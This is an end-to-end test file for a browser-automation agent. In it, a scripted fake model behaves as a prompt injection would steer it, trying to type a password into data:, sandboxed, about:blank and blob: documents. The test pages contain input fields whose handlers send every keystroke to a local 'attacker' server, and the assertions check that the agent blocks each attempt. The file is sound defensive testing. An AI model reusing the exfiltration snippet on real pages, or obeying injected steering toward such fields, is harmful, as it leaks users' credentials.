"""A secret is typed only into an http(s) document the task and the secret allow.

The scripted model behaves as a prompt injection would steer it: it writes its own
``data:`` page, and types the password into a ``data:`` iframe, a sandboxed iframe and an
``about:blank`` iframe that a page script filled in. Each of those would send what is typed
to a local "attacker" server; the server must receive nothing, each attempt must be an
observation to the model, and the task must go on to log in on the real form.
"""

from __future__ import annotations

from typing import Any
from urllib.parse import quote

import pytest

from shared.models import TaskStatus
from tests.e2e.helpers import run, script_id
from tests.support.fake_llm import Call, FakeLLM, step
from tests.support.site import PASSWORD, Site

pytestmark = pytest.mark.usefixtures("worker")


def _leaky_input(attacker: str, label: str) -> str:
    """A field that sends every keystroke to the attacker (as a public-host image would)."""
    return (
        f'<input placeholder="{label}" oninput="new Image().src=\'{attacker}/leak?\'+'
        f'encodeURIComponent(this.value)">'
    )


def _page(site: Site, attacker: str, sid: str) -> str:
    data_frame = "data:text/html," + quote("<title>inner</title>" + _leaky_input(attacker, "Data field"))
    sandboxed = _leaky_input(attacker, "Sandboxed field").replace('"', "&quot;")
    blank_writer = (
        "const f=document.getElementById('blank');const d=f.contentDocument;"
        f"d.body.innerHTML={_leaky_input(attacker, 'Blank field')!r};"
    )
    return f"""<!doctype html><html><head><title>Secure login</title></head><body>
<form method="post" action="/login"><input name="user" placeholder="Username">
<input name="password" type="password" placeholder="Password"><button type="submit">Log in</button></form>
<iframe src="{data_frame}"></iframe>
<iframe sandbox="allow-scripts" srcdoc="{sandboxed}"></iframe>
<iframe id="blank" src="about:blank"></iframe>
<script>{blank_writer}</script>
</body></html>"""


def test_secrets_go_only_into_allowed_http_documents(
    producer: Any, fake_llm: FakeLLM, site: Site
) -> None:
    attacker = Site()
    attacker_url = attacker.start()
    try:
        sid = script_id("dest")
        site.pages[f"/secure-{sid}"] = _page(site, attacker_url, sid)
        trap = "data:text/html," + quote("<title>Trap</title>" + _leaky_input(attacker_url, "Trap"))
        typed = "<secret>password</secret>"

        def script(call: Call) -> str:
            if "title: Secure login" in call.user and call.index == 0:
                return step({"navigate": {"url": trap}})
            if "title: Secure login" in call.user and call.index in (1, 2, 3):
                label = ["Data field", "Sandboxed field", "Blank field"][call.index - 1]
                return step({"input": {"index": call.index_of(label), "text": typed}})
            if "title: Secure login" in call.user:
                return step(
                    {"input": {"index": call.index_of("placeholder=Username"), "text": "ada"}},
                    {"input": {"index": call.index_of("placeholder=Password"), "text": typed}},
                    {"click": {"index": call.index_of("Log in")}},
                )
            return step({"done": {"text": "logged in", "success": True}})

        marker = fake_llm.script(sid, script)
        view = run(producer, {
            "task": f"Log in. {marker}",
            "startUrl": f"{site.url}/secure-{sid}",
            "secrets": {"password": PASSWORD},
            "allowedDomains": ["127.0.0.1"],
        })
        assert view.status == TaskStatus.finished and view.is_success, view.error
        results = [s.results[0] for s in view.steps[:4]]
        assert "blocked" in results[0] and "data: URLs" in results[0], results
        assert "data: document" in results[1], results
        assert "sandboxed" in results[2], results
        assert "about: document" in results[3], results
        # The real form got the password; the attacker got nothing at all.
        assert ("/login", {"user": "ada", "password": PASSWORD}) in site.forms
        assert attacker.log == [], attacker.log
    finally:
        attacker.stop()


def test_fill_form_types_no_secret_into_a_blob_document(producer: Any, fake_llm: FakeLLM, site: Site) -> None:
    """An allowed page turns itself into a ``blob:`` document (a page may; only ``data:`` top-level
    navigations are blocked by Chromium); ``fill_form`` must not type the secret there."""
    attacker = Site()
    attacker_url = attacker.start()
    try:
        sid = script_id("blob")
        leaky = "<title>Blob login</title>" + _leaky_input(attacker_url, "Blob field")
        site.pages[f"/to-blob-{sid}"] = (
            "<!doctype html><title>Redirecting</title><script>"
            f"location.href = URL.createObjectURL(new Blob([{leaky!r}], {{type: 'text/html'}}));"
            "</script>"
        )

        def script(call: Call) -> str:
            if "title: Blob login" in call.user and call.index <= 1:
                return step({"skill_fill_form": {"fields": {"Blob field": "<secret>password</secret>"}}})
            if "title: Blob login" in call.user:
                return step({"done": {"text": "refused", "success": True}})
            return step({"wait": {"seconds": 0.5}})

        marker = fake_llm.script(sid, script)
        view = run(producer, {
            "task": f"Fill the form. {marker}",
            "startUrl": f"{site.url}/to-blob-{sid}",
            "secrets": {"password": PASSWORD},
            "skillIds": ["fill_form"],
        })
        assert view.status == TaskStatus.finished and view.is_success, view.error
        refusals = [r for s in view.steps for r in s.results if "blob: document" in r]
        assert refusals, [s.results for s in view.steps]
        assert attacker.log == [], attacker.log
    finally:
        attacker.stop()
